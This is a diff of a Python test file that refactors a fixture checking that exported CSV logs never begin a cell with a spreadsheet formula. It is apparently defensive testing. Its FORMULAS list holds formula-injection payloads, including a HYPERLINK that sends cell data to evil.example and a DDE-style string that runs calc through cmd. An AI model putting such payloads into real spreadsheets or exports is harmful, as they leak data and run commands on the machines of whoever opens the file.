@@ -10,11 +10,8 @@ from pathlib import Path
 
 import pytest
 
-from courtroom.door import PseudoModel, ScriptedBackend
 from courtroom.log.export import FORMULA_STARTS, export_run, spreadsheet_safe
-from courtroom.log.manifest import RunSpec
-from courtroom.runs.runners import LocalRunner
-from courtroom.runs.start import start_run
+from tests.attacks import pseudo_run
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
             "\tTAB=1", "\r=1"]
@@ -26,13 +23,7 @@ def formula_run(tmp_path_factory) -> Path:
     rows = [{"id": formula, "source": formula, "question": "What colour is the sky?",
              "context": ["The sky is blue."], "answer": f"{formula} The sky is green.",
              "label": "FAIL" if i % 2 else "PASS"} for i, formula in enumerate(FORMULAS)]
-    dataset = root / "formulas.jsonl"
-    dataset.write_text("".join(json.dumps(r) + "\n" for r in rows))
-    out = root / "run"
-    run = start_run(RunSpec.build(str(dataset), judge="courtroom", window=5), out)
-    run.execute(runner=LocalRunner(ScriptedBackend(PseudoModel())))
-    run.close()
-    return out
+    return pseudo_run(rows, root / "formulas.jsonl", root / "run")
 
 
 def test_no_csv_cell_starts_a_formula(formula_run: Path, tmp_path: Path) -> None:
